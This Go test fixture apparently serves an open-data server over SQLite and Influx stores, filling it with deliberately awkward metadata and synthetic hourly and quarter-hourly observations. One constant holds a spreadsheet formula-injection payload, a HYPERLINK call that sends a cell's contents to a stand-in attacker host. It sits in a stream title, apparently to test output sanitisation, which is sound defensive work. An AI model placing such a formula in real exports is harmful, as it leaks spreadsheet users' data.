// Package plaza serves open data of two streams from a store and books of its own, for tests.
package plaza

import (
	"bytes"
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"sluice/books"
	"sluice/opendata"
	"sluice/opendata/query"
	"sluice/store"
	"sluice/store/influx"
	"sluice/store/sqlite"
	"sluice/test/entered"
	"sluice/test/harness"
)

// Plaza is an open-data server over a store and books of its own.
type Plaza struct {
	T     *testing.T
	Books books.Dir
	Write func(context.Context, []store.Observation) error
	Read  query.Store
	Store string // Read, as opendata.yaml has it
	Log   harness.Output
	Base  string
	Stop  func()
}

// InStores runs a test over both stores.
func InStores(t *testing.T, f func(*testing.T, *Plaza)) {
	t.Run("sqlite", func(t *testing.T) { f(t, New(t)) })
	t.Run("influx", func(t *testing.T) {
		db, bucket := harness.SharedInflux(t)
		s, err := influx.Open(influx.Config{URL: db, Org: "city", Bucket: bucket})
		if err != nil {
			t.Fatal(err)
		}
		q := &Plaza{T: t, Books: books.Dir(t.TempDir()), Write: s.Write, Read: s,
			Store: fmt.Sprintf("{influx: {url: %q, org: city, bucket: %s}}", db, bucket)}
		q.Fill()
		q.Open(opendata.Config{URL: "https://data.portalba.example"})
		f(t, q)
	})
}

// New makes public books of two streams and their places, over a store that is empty.
func New(t *testing.T) *Plaza {
	t.Helper()
	path := filepath.Join(t.TempDir(), "store.db")
	w, err := sqlite.Open(t.Context(), path)
	if err != nil {
		t.Fatal(err)
	}
	r, err := sqlite.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := r.Close(); err != nil {
			t.Error(err)
		}
		if err := w.Close(); err != nil {
			t.Error(err)
		}
	})
	q := &Plaza{T: t, Books: books.Dir(t.TempDir()), Write: w.Write, Read: r,
		Store: `{sqlite: {path: "` + path + `"}}`}
	q.Fill()
	q.Open(opendata.Config{URL: "https://data.portalba.example"})
	return q
}

// Open serves, again after a stop.
func (q *Plaza) Open(cfg opendata.Config) {
	q.T.Helper()
	cfg.HTTP = "127.0.0.1:0"
	s, err := opendata.Open(cfg, q.Read, q.Books, slog.New(slog.NewTextHandler(&q.Log, nil)))
	if err != nil {
		q.T.Fatal(err)
	}
	ctx, cancel := context.WithCancel(q.T.Context())
	done := make(chan error, 1)
	go func() { done <- s.Run(ctx) }()
	q.Base = "http://" + s.Addr()
	stopped := false
	q.Stop = func() {
		if stopped {
			return
		}
		stopped = true
		cancel()
		if err := <-done; err != nil {
			q.T.Error(err)
		}
	}
	q.T.Cleanup(q.Stop)
}

// Dusk is the end of the last window.
var Dusk = time.Date(2026, 3, 29, 20, 0, 0, 0, time.UTC)

// formula would be run by a spreadsheet.
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`

// long is a name that no line holds.
var long = strings.Repeat("Llanfairpwllgwyngyllgogerychwyrndrobwll", 3)

// Fill writes books of a city that is as awkward as books can be, and two days of
// observations around a night of 23 hours.
func (q *Plaza) Fill() {
	q.T.Helper()
	put := func(name string, v any) {
		q.T.Helper()
		if err := q.Books.PutJSON(name, v); err != nil {
			q.T.Fatal(err)
		}
	}
	put("city.json",
		books.City{ID: "portalba", Name: "Portalba", Timezone: "Europe/Madrid", Languages: []string{"ca"},
			Policy: "sha256:00"})
	put("streams.json", []books.Stream{
		{
			ID: "steps", Title: map[string]string{"en": formula, "ca": "Passos <b>&amp; " + long}, Every: "PT1H",
			Timezone: "Europe/Madrid", Unit: "device",
			Measures: []books.Measure{{Name: "devices", Unit: "device", Of: "distinct(unit)", PublicFrom: 47,
				TypicalError: 6}},
			Cells: []books.Cell{{ID: "a/bike", Zone: "a", Category: "bike"},
				{ID: "a/foot", Zone: "a", Category: "foot"}, {ID: "b/foot", Zone: "b", Category: "foot"}},
			Decision: "1", From: "2026-01-01", Until: "2026-12-31", Licence: "CC-BY-4.0", Plan: "sha256:01",
		},
		{
			ID: "noise", Title: map[string]string{"es": "Ruido"}, Every: "PT15M", Timezone: "Europe/Madrid",
			Unit: "none",
			Measures: []books.Measure{{Name: "level", Unit: "dB(A)", Of: "mean(laeq)"},
				{Name: "peak", Unit: "dB(A)", Of: "quantile(laeq, 0.9)"}},
			Cells: []books.Cell{{ID: "b", Zone: "b"}}, Decision: "2", From: "2026-01-01", Until: "2026-12-31",
			Licence: "CC0-1.0", Plan: "sha256:02",
		},
	})
	put("decisions.json", []books.Decision{
		{ID: "1", Title: map[string]string{"en": "+1+1"}, State: "in_force", From: "2026-01-01", Until: "2026-12-31",
			YAML: "decision: \"1\"\n", Explain: map[string]string{"en": "Who\n---\nDevices.\n"}},
		{ID: "2", Title: map[string]string{"en": "Noise"}, State: "suspended", From: "2026-01-01", Until: "2026-12-31",
			Votes: []books.Vote{{Member: "anna", Name: "Anna", Key: "SHA256:x", Verified: true}}},
	})
	for _, name := range []string{"1/decision.yaml", "2/decision.yaml", "2/motion.txt", "2/allowed_signers",
		"2/bundle.tar.gz", "2/ballots/anna.sig"} {
		if err := q.Books.Put("decisions/"+name, []byte(name+"\n")); err != nil {
			q.T.Fatal(err)
		}
	}
	alive := true
	put("register.json", books.Register{Sensors: []books.Sensor{
		{ID: "s-1", Owner: "@acme", Kind: "counter", Topic: "city/v1/acme/s-1/up", Zone: "a", Registered: "2026-01-01",
			Contact: "-2+3", Purpose: map[string]string{"en": "\tcount"}, Alive: &alive,
			Fields: []books.Field{{Name: "device", Class: "identifier", Fate: "counted", Decision: "1"},
				{Name: "note", Class: "free-text", Fate: "dropped"}}},
		{ID: "s-2", Owner: long, Kind: "meter", Zone: "b", Registered: "2026-01-01",
			Fields: []books.Field{{Name: "laeq", Class: "measurement", Fate: "kept", Decision: "2"}}},
	}, Homes: []books.Homes{{Kind: "meter", Zone: "b", Number: 12}}})
	if err := q.Books.Put("zones.geojson", []byte(`{"type":"FeatureCollection","features":[
{"type":"Feature","id":"a","properties":{"name":"Àrea <A>"},"geometry":{"type":"Polygon","coordinates":[[[2.1,41.3],[2.2,41.3],[2.2,41.4],[2.1,41.4],[2.1,41.3]]]}},
{"type":"Feature","id":2,"properties":{"id":"b","name":"=B `+long+`"},"geometry":{"type":"MultiPolygon","coordinates":[[[[2.2,41.3],[2.3,41.3],[2.3,41.4],[2.2,41.3]]]]}}]}`)); err != nil {
		q.T.Fatal(err)
	}
	var ledger bytes.Buffer
	prev := ""
	for n := range 5 {
		raw, err := json.Marshal(books.Entry{N: int64(n + 1), Day: fmt.Sprintf("2026-03-%02d", 25+n), Gateway: "edge-1",
			Decision: "1", Plan: "sha256:01", Unit: "device", Kind: "reserve", Epsilon: 0.5, Delta: 1e-6, Cap: 1,
			Left: 0.5, PrevSHA256: prev})
		if err != nil {
			q.T.Fatal(err)
		}
		ledger.Write(append(raw, '\n'))
		prev = books.Hash(string(raw))
	}
	if err := q.Books.Put("ledger.jsonl", ledger.Bytes()); err != nil {
		q.T.Fatal(err)
	}
	q.Release(Dusk.Add(-48*time.Hour), Dusk)
}

// Release stores what was seen between two instants; the same instants always the same.
func (q *Plaza) Release(from, to time.Time) {
	q.T.Helper()
	var list []store.Observation
	for at := from; at.Before(to); at = at.Add(time.Hour) {
		for i, c := range []string{"a/bike", "a/foot", "b/foot"} {
			zone, category, _ := strings.Cut(c, "/")
			o := store.Observation{
				Stream: "steps", Start: at, End: at.Add(time.Hour), Every: "PT1H", Cell: c, Zone: zone,
				Category: category, Measure: "devices", Status: store.Published,
				Unit: "device", Decision: "1", Policy: "sha256:00", Mechanism: "laplace", Epsilon: 0.5, Scale: 2,
				Threshold: 40.25, Ledger: 1,
			}
			v := float64(100*i + at.Hour())
			low, high := v-6, v+6
			switch {
			case at.Hour() < 5:
				o.Status, o.Reason = store.Withheld, "few"
			case at.Hour() == 6 && i == 0:
				o.Status = store.NoData
			default:
				o.Value, o.Low, o.High = &v, &low, &high
			}
			list = append(list, o)
		}
		for quarter := range 4 {
			for _, m := range []string{"level", "peak"} {
				start := at.Add(time.Duration(quarter) * 15 * time.Minute)
				v := 50 + float64(start.Hour())/3
				list = append(list, store.Observation{
					Stream: "noise", Start: start, End: start.Add(15 * time.Minute), Every: "PT15M", Cell: "b",
					Zone: "b", Measure: m, Status: store.Published,
					Value: &v, Low: &v, High: &v, Unit: "dB(A)", Decision: "2", Policy: "sha256:00",
				})
			}
		}
	}
	q.Publish(list)
}

// Publish stores rows and enters them in the books.
func (q *Plaza) Publish(list []store.Observation) {
	q.T.Helper()
	if err := q.Write(q.T.Context(), list); err != nil {
		q.T.Fatal(err)
	}
	slices.SortStableFunc(list, func(a, b store.Observation) int {
		return cmp.Or(cmp.Compare(a.Stream, b.Stream), a.Start.Compare(b.Start))
	})
	if err := entered.Enter(q.Books, list); err != nil {
		q.T.Fatal(err)
	}
}
